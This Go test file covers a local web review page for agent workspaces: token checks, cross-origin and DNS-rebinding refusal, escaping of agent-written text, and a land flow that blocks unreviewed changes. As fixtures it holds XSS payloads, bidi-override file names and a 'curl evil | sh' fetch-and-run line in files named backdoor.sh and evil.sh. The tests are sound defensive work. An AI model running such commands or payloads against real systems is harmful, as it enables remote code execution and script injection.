package ui_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/groveworks/grove"
	"github.com/groveworks/grove/engine/ui"
	"github.com/groveworks/grove/gitbackend"
	"github.com/groveworks/grove/internal/githarness"
	"github.com/groveworks/grove/workspace"
)

const token = "0123456789abcdef0123456789abcdef"

// fixture is a repository with a head "h" that changed a file, served by
// the page's handler on a loopback test server.
type fixture struct {
	t      *testing.T
	ws     *workspace.Workspace
	srv    *httptest.Server
	client *http.Client // follows no redirect
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	ctx := context.Background()
	repo := filepath.Join(t.TempDir(), "repo")
	require.NoError(t, githarness.InitRepo(ctx, repo, fstest.MapFS{"a.txt": {Data: []byte("a\n")}}))
	gb := gitbackend.New(gitbackend.Options{})
	t.Cleanup(func() { _ = gb.Close() })
	ws, err := workspace.Open(ctx, gb, repo, nil)
	require.NoError(t, err)
	t.Cleanup(func() { _ = ws.Close() })
	h, err := ws.NewHead("h").Create(ctx)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(h.Info().Root, "a.txt"), []byte("b\n"), 0o644))
	require.NoError(t, h.Close())
	handler, err := ui.New(ui.Options{Workspace: ws, Token: token})
	require.NoError(t, err)
	t.Cleanup(func() { _ = handler.Close() })
	f := &fixture{t: t, ws: ws, srv: httptest.NewServer(handler)}
	t.Cleanup(f.srv.Close)
	f.client = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	return f
}

func (f *fixture) get(path string, status int) string {
	f.t.Helper()
	resp, err := f.client.Get(f.srv.URL + "/" + token + path)
	require.NoError(f.t, err)
	defer resp.Body.Close()
	var b strings.Builder
	_, _ = io.Copy(&b, resp.Body)
	require.Equal(f.t, status, resp.StatusCode, b.String())
	return b.String()
}

func (f *fixture) post(path string, form url.Values, header http.Header) *http.Response {
	f.t.Helper()
	req, err := http.NewRequest(http.MethodPost, f.srv.URL+"/"+token+path, strings.NewReader(form.Encode()))
	require.NoError(f.t, err)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range header {
		req.Header[k] = v
	}
	resp, err := f.client.Do(req)
	require.NoError(f.t, err)
	resp.Body.Close()
	return resp
}

// overview is the list of heads once every head in it has been read (the
// page's refresher reads them; the page shows "reading…" until then).
func (f *fixture) overview() string {
	f.t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		page := f.get("/frag/heads", http.StatusOK)
		if !strings.Contains(page, "reading…") {
			return page
		}
		require.True(f.t, time.Now().Before(deadline), "the heads were never read")
	}
}

// postBody posts form and returns the page, which must be a 200.
func (f *fixture) postBody(path string, form url.Values) string {
	f.t.Helper()
	resp, err := f.client.PostForm(f.srv.URL+"/"+token+path, form)
	require.NoError(f.t, err)
	defer resp.Body.Close()
	var b strings.Builder
	_, _ = io.Copy(&b, resp.Body)
	require.Equal(f.t, http.StatusOK, resp.StatusCode, b.String())
	return b.String()
}

// checkpoints is how many checkpoints head h has.
func (f *fixture) checkpoints() int {
	f.t.Helper()
	h, err := f.ws.OpenHead(context.Background(), "h", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(f.t, err)
	defer h.Close()
	log, err := h.Log(context.Background(), nil)
	require.NoError(f.t, err)
	return len(log)
}

// Nothing is served without the token, the first element of every path.
func TestEveryRequestNeedsTheToken(t *testing.T) {
	f := newFixture(t)
	for _, path := range []string{"/", "/head/h", "/frag/heads", "/frag/live/h", "/head/h/patch", "/compare?h=h&h=h", "/static/app.js",
		"/?token=" + token, "/" + token[:31] + "/", "/" + token + "x/", "/x" + token + "/", "//" + token + "/"} {
		resp, err := f.client.Get(f.srv.URL + path)
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusUnauthorized, resp.StatusCode, path)
	}
	resp, err := f.client.Post(f.srv.URL+"/head/h/checkpoint", "application/x-www-form-urlencoded", strings.NewReader("confirm=yes"))
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	assert.Zero(t, f.checkpoints())
	// A path the server's mux would clean (and redirect without the token)
	// is not found instead.
	for _, path := range []string{"/head/x/../h", "//head/h", "/head/./h"} {
		resp, err := f.client.Get(f.srv.URL + "/" + token + path)
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusNotFound, resp.StatusCode, path)
	}
	page := f.get("/", http.StatusOK)
	assert.Contains(t, page, `data-head="h"`)
	assert.Contains(t, page, `href="/`+token+`/head/h"`, "the page's links keep the token")
}

// A write from another origin or site, or through a host name that is not
// loopback (DNS rebinding), is refused and changes nothing.
func TestAFormFromElsewhereChangesNothing(t *testing.T) {
	f := newFixture(t)
	ok := url.Values{"confirm": {"yes"}}
	for name, header := range map[string]http.Header{
		"other origin": {"Origin": {"http://evil.example"}},
		"other port":   {"Origin": {"http://127.0.0.1:1"}},
		"cross site":   {"Sec-Fetch-Site": {"cross-site"}},
		"same site":    {"Sec-Fetch-Site": {"same-site"}},
		"rebound host": {"Host": {"evil.example"}},
	} {
		req, err := http.NewRequest(http.MethodPost, f.srv.URL+"/"+token+"/head/h/checkpoint", strings.NewReader(ok.Encode()))
		require.NoError(t, err)
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for k, v := range header {
			req.Header[k] = v
		}
		if h := header.Get("Host"); h != "" {
			req.Host = h
		}
		resp, err := f.client.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusForbidden, resp.StatusCode, name)
	}
	assert.Zero(t, f.checkpoints())
	resp := f.post("/head/h/checkpoint", ok, http.Header{"Origin": {f.srv.URL}, "Sec-Fetch-Site": {"same-origin"}})
	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
	assert.Equal(t, 1, f.checkpoints())
}

// An action asks first, and does nothing until confirmed; its failure is
// the library's typed error.
func TestAnActionAsksFirst(t *testing.T) {
	f := newFixture(t)
	resp := f.post("/head/h/destroy", url.Values{"discard": {"1"}}, nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	f.get("/head/h", http.StatusOK) // still there
	resp = f.post("/head/h/restore", url.Values{"rev": {"no-such-rev"}, "confirm": {"yes"}}, nil)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
	resp = f.post("/head/h/destroy", url.Values{"discard": {"1"}, "confirm": {"yes"}}, nil)
	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
	body := f.get("/head/h", http.StatusNotFound)
	assert.Contains(t, body, grove.NotFound.Name())
}

// What an agent writes reaches the page as text: a file name, a file's
// lines and a checkpoint message that are markup are escaped in every view.
func TestAgentTextIsEscaped(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	h, err := f.ws.OpenHead(ctx, "h", nil)
	require.NoError(t, err)
	evil := `<img src=x onerror=alert(1)>`
	require.NoError(t, os.WriteFile(filepath.Join(h.Info().Root, evil+".txt"), []byte("<script>alert(2)</script>\n"), 0o644))
	cp, err := h.Checkpoint(ctx, &workspace.CheckpointOptions{Message: `</title><script>alert(3)</script>`})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(h.Info().Root, "b.txt"), []byte(`"><svg onload=alert(4)>`+"\n"), 0o644))
	// A bidirectional override makes "notes\u202egol.txt" read "notestxt.log".
	require.NoError(t, os.WriteFile(filepath.Join(h.Info().Root, "notes\u202egol.txt"), []byte("if admin \u2066{ grant() }\n"), 0o644))
	require.NoError(t, h.Close())
	f.overview()
	for _, path := range []string{"/", "/frag/heads", "/head/h", "/head/h?at=" + string(cp.ID), "/head/h?view=inline&at=" + string(cp.ID), "/frag/live/h", "/compare?h=h&h=h"} {
		body := f.get(path, http.StatusOK)
		for _, bad := range []string{"<img", "<script>alert", "<svg", "</title><", "\u202e", "\u2066"} {
			assert.NotContains(t, body, bad, path)
		}
	}
	assert.Contains(t, f.get("/head/h?at="+string(cp.ID), http.StatusOK), "&lt;img src=x onerror=alert(1)&gt;.txt")
	live := f.get("/frag/live/h", http.StatusOK)
	assert.Contains(t, live, `notes\u202egol.txt`, "the override is shown as an escape")
	assert.Contains(t, live, `if admin \u2066{ grant() }`)
}

// A land lands the work the reviewer saw: a head with uncommitted work
// cannot be confirmed, and what an agent writes or commits between the dry
// run and the confirmation makes the land a Conflict that moves nothing.
func TestALandLandsOnlyWhatWasReviewed(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	main, err := githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "HEAD")
	require.NoError(t, err)
	page := f.get("/head/h", http.StatusOK)
	require.Contains(t, page, "uncommitted")
	// h has uncommitted work: the dry run says so and offers no button.
	body := f.postBody("/head/h/land", url.Values{"branch": {"review"}})
	assert.Contains(t, body, `id="blocked"`)
	assert.NotContains(t, body, `id="confirm-button"`)

	resp := f.post("/head/h/checkpoint", url.Values{"confirm": {"yes"}}, nil)
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	body = f.postBody("/head/h/land", url.Values{"branch": {"review"}})
	require.Contains(t, body, `id="confirm-button"`)
	// The confirmation shows what lands: here a.txt's change.
	assert.Regexp(t, `(?s)id="land-diff".*a\.txt.*<td class="code add">b</td>`, body)
	i := strings.Index(body, `name="expect" value="`)
	require.Positive(t, i)
	expect := body[i+len(`name="expect" value="`):][:40]

	// The agent writes a file after the reviewer read the dry run.
	h, err := f.ws.OpenHead(ctx, "h", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(t, err)
	root := h.Info().Root
	require.NoError(t, h.Close())
	require.NoError(t, os.WriteFile(filepath.Join(root, "backdoor.sh"), []byte("curl evil | sh\n"), 0o755))
	form := url.Values{"branch": {"review"}, "expect": {expect}, "confirm": {"yes"}}
	resp = f.post("/head/h/land", form, nil)
	assert.Equal(t, http.StatusConflict, resp.StatusCode)
	_, err = githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "--verify", "refs/heads/review")
	assert.Error(t, err, "the land wrote the review branch")
	now, err := githarness.Git(ctx, f.ws.Info().Locator, "rev-parse", "HEAD")
	require.NoError(t, err)
	assert.Equal(t, main, now)

	// Once it is gone, the reviewed work lands.
	require.NoError(t, os.Remove(filepath.Join(root, "backdoor.sh")))
	resp = f.post("/head/h/land", form, nil)
	assert.Equal(t, http.StatusSeeOther, resp.StatusCode)
	files, err := githarness.Git(ctx, f.ws.Info().Locator, "ls-tree", "-r", "--name-only", "review")
	require.NoError(t, err)
	assert.Equal(t, "a.txt", strings.TrimSpace(files))
}

// Every action is the library's: checkpoint, restore (with its safety
// checkpoint), fork, archive and unarchive, and the patch download.
func TestTheActionsAreTheLibrarysCalls(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	yes := func(path string, form url.Values) string {
		t.Helper()
		form.Set("confirm", "yes")
		resp := f.post(path, form, nil)
		require.Equal(t, http.StatusSeeOther, resp.StatusCode, path)
		return resp.Header.Get("Location")
	}
	yes("/head/h/checkpoint", url.Values{"message": {"first"}})
	h, err := f.ws.OpenHead(ctx, "h", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(t, err)
	log, err := h.Log(ctx, nil)
	require.NoError(t, err)
	require.Len(t, log, 1)
	first, root := log[0].ID, h.Info().Root
	require.NoError(t, h.Close())

	// Restore keeps the work written since in a safety checkpoint.
	require.NoError(t, os.WriteFile(filepath.Join(root, "a.txt"), []byte("later\n"), 0o644))
	loc := yes("/head/h/restore", url.Values{"rev": {string(first)}})
	assert.Contains(t, loc, "safety+checkpoint")
	data, err := os.ReadFile(filepath.Join(root, "a.txt"))
	require.NoError(t, err)
	assert.Equal(t, "b\n", string(data))
	assert.Equal(t, 2, f.checkpoints())

	// Fork from the first checkpoint: the new head's page follows.
	loc = yes("/head/h/fork", url.Values{"new": {"g"}, "at": {string(first)}})
	assert.True(t, strings.HasPrefix(loc, "/"+token+"/head/g?"), loc)
	g, err := f.ws.OpenHead(ctx, "g", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(t, err)
	st, err := g.Status(ctx)
	require.NoError(t, err)
	assert.Equal(t, first, st.Commit)
	require.NoError(t, g.Close())

	// Archive, then the head's page offers only to unarchive it.
	yes("/head/g/archive", url.Values{})
	page := f.get("/head/g", http.StatusOK)
	assert.Contains(t, page, "/unarchive")
	assert.NotContains(t, page, "/checkpoint")
	yes("/head/g/unarchive", url.Values{})
	assert.Contains(t, f.get("/head/g", http.StatusOK), "/checkpoint")

	// The patch: git format-patch's mbox of the head's work.
	resp, err := f.client.Get(f.srv.URL + "/" + token + "/head/h/patch")
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, `attachment; filename="h.mbox"`, resp.Header.Get("Content-Disposition"))
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	assert.Contains(t, string(body), "Subject: [PATCH] first")
}

// The overview counts a dirty head's uncommitted lines on its page only;
// the comparison counts them, once, after the overview has read the head.
func TestTheComparisonCountsUncommittedLines(t *testing.T) {
	f := newFixture(t)
	resp := f.post("/head/h/checkpoint", url.Values{"confirm": {"yes"}}, nil)
	require.Equal(t, http.StatusSeeOther, resp.StatusCode)
	h, err := f.ws.OpenHead(context.Background(), "h", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(h.Info().Root, "c.txt"), []byte("c\n"), 0o644))
	require.NoError(t, h.Close())
	overview := f.overview()
	assert.Contains(t, overview, "+ uncommitted")
	for range 2 {
		page := f.get("/compare?h=h&h=h", http.StatusOK)
		assert.Contains(t, page, `2 file(s) <span class="add">+2</span> <span class="del">−1</span>`)
	}
}

// A commit the agent made with its own git is no checkpoint, so no
// timeline entry shows it; the land's confirmation shows it all the same,
// since it shows what lands.
func TestALandShowsCommitsThatAreNotCheckpoints(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	h, err := f.ws.OpenHead(ctx, "h", &workspace.ReopenOptions{ReadOnly: true})
	require.NoError(t, err)
	root := h.Info().Root
	require.NoError(t, h.Close())
	require.NoError(t, os.WriteFile(filepath.Join(root, "evil.sh"), []byte("curl evil | sh\n"), 0o755))
	for _, args := range [][]string{{"add", "-A"}, {"-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "quiet"}} {
		_, err := githarness.Git(ctx, root, args...)
		require.NoError(t, err)
	}
	body := f.postBody("/head/h/land", url.Values{"branch": {"review"}})
	assert.Regexp(t, `(?s)id="land-diff".*evil\.sh.*curl evil \| sh`, body)
}
